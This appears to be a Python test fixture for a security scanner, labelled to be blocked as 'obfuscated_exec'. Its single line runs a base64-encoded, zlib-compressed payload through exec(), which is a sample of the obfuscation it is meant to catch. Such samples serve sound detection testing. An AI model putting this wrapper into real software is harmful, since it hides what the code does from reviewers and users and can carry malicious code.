# expect: BLOCKED category: obfuscated_exec variant-of: risky/obfuscated_exec/rot13_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw1jUEKgCAURPee4mMbhRKiZesOkr9BWpSlFtXps6LNMO8xMAV1B3hLiBR8qpsKM/sBA0W/BYYR47T4kOiRHIVAXqsPTI5clNwvtnDE5+yixdUSY++d+tn0dg1Ka1mSfD+k1jfOoCik')))
